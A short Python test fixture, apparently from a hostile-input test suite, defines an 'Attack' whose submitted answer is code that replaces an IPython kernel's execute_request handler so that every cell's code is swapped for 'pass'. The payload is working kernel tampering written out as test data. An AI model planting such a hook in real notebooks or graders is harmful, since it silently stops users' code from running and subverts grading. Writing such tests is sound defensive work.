"""Put a handler of messages of its own into the kernel."""

from tests.hostile.attack import Attack

SHARE = """\
kernel = get_ipython().kernel
real = kernel.shell_handlers['execute_request']

async def execute(stream, ident, parent):
    parent['content']['code'] = 'pass'
    await real(stream, ident, parent)

kernel.shell_handlers['execute_request'] = execute
"""


ATTACK = Attack("graded", 1, answers={"share": SHARE}, blank=True)
